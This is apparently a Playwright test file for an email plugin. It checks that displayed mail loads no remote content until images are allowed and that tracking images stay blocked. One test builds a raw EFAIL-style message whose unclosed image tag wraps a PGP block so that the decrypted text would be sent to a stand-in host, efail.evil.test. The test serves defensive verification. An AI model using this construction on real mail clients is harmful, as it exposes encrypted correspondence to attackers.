"""Nothing is asked of anybody outside by showing a mail; after "show once" only pictures are."""

import pytest
from playwright.sync_api import expect

from escala_email_plugin.models import ShownSender
from tests.making import letter, stored

from .constructs import OTHERS, PICTURES, TRACKERS

pytestmark = pytest.mark.browser


def named(kind: str, constructs: tuple[str, ...]) -> list[str]:
    """Each with a host of its own, ``p0.evil.test``, by which it is known."""
    return [
        one.replace("{u}", f"https://{kind}{number}.evil.test/x.gif") for number, one in enumerate(constructs)
    ]


ALL = [*named("p", PICTURES), *named("t", TRACKERS), *named("o", OTHERS)]
SEEN = {f"p{number}" for number in range(len(PICTURES))}


def html(constructs: list[str]) -> str:
    # What ends or swallows the document comes last.
    ending = ("<frameset", "<textarea", "<!--", "<head", "<html", "<xml", "<body", "<template")
    ordered = sorted(constructs, key=lambda one: one.startswith(ending))
    return "<p>Hola</p>" + "".join(f"<div>{one}</div>\n" for one in ordered)


def test_raw_they_do_ask(page, outside):
    """Else the tests below could not fail."""
    assert len(ALL) >= 80
    page.evaluate(
        """(all) => all.forEach((one) => {
            const frame = document.createElement('iframe');
            frame.srcdoc = one;
            document.body.append(frame);
        })""",
        ALL,
    )
    page.wait_for_timeout(3_000)
    assert len(outside.asked) > 50
    assert outside.asked >= SEEN


def test_nothing_is_asked_until_pictures_are_wanted_and_then_only_they_are(opened, mine, outside, ana):
    stored(mine, letter(html=html(ALL)), letter(html=html(ALL[::-1]), minutes=1, subject="Otra"))
    page = opened(2)
    page.wait_for_timeout(1_000)
    assert outside.asked == set()
    assert outside.connections == 0

    message = page.locator(".escala-message", has=page.locator(".escala-pictures")).first
    bar = message.locator(".escala-pictures")
    expect(bar).to_contain_text(f"{len(PICTURES)} pictures were not loaded")
    expect(bar).to_contain_text(f"{len(TRACKERS)} tracking pictures were left out.")
    bar.get_by_role("button", name="Show once").click()
    expect(bar).to_contain_text("The pictures are shown this once.")
    expect(bar.locator(".escala-pictures__says")).to_be_focused()
    page.wait_for_timeout(1_500)
    assert outside.asked == SEEN
    assert not ShownSender.objects.exists()


def test_always_lasts_for_this_reader_until_it_is_stopped(opened, mine, outside, seller):
    stored(mine, letter(html=html(named("p", PICTURES))))
    page = opened(1)
    bar = page.locator(".escala-pictures")
    bar.get_by_role("button", name="Always show those of ana@cliente.test").click()
    expect(bar).to_contain_text("Pictures of ana@cliente.test are always shown.")
    outside.asked.clear()
    opened(1)
    page.wait_for_timeout(1_000)
    assert outside.asked == SEEN
    bar.get_by_role("button", name="Stop").click()
    expect(bar).to_contain_text("were not loaded")
    page.wait_for_timeout(500)
    outside.asked.clear()
    opened(1)
    page.wait_for_timeout(1_000)
    assert outside.asked == set()


def test_encrypted_mail_is_not_joined_with_what_stands_round_it(opened, mine, outside):
    """EFAIL: HTML before an encrypted part must not swallow what comes of it."""
    raw = (
        b"From: ana@cliente.test\r\nTo: lucia@andina.test\r\nSubject: Cifrado\r\nMessage-ID: <e@x.test>\r\n"
        b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        b'--b\r\nContent-Type: text/html\r\n\r\n<img src="https://efail.evil.test/\r\n'
        b"--b\r\nContent-Type: text/plain\r\n\r\n-----BEGIN PGP MESSAGE-----\r\nsecreto\r\n"
        b"-----END PGP MESSAGE-----\r\n"
        b'--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'
    )
    stored(mine, raw)
    page = opened(1)
    page.wait_for_timeout(500)
    assert outside.connections == 0
    frame = page.locator("iframe.escala-message__body")
    sources = frame.evaluate("one => [...one.contentDocument.images].map((img) => img.src)")
    assert not any("secreto" in one for one in sources)
